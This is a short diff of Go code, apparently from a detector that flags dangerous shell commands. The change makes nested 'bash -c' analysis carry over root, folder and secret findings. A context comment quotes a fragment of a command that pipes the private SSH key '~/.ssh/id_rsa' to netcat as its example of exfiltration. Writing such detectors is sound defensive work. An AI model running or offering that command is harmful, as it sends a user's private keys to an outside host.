@@ -218,10 +218,13 @@ flags:
 // ~/.ssh/id_rsa' | nc host 1 is as bad as the same without bash -c.
 func (a *analyzer) nested(code string) {
 	inner := newAnalyzer()
-	inner.cwd = a.cwd
+	inner.cwd, inner.root = a.cwd, a.root
 	inner.source(code, a.depth+1)
 	if inner.best.sev != SeverityNone {
 		a.flag(inner.best, nil)
+	}
+	if a.folder == "" {
+		a.folder = inner.folder
 	}
 	if a.secret == "" {
 		a.secret = inner.secret
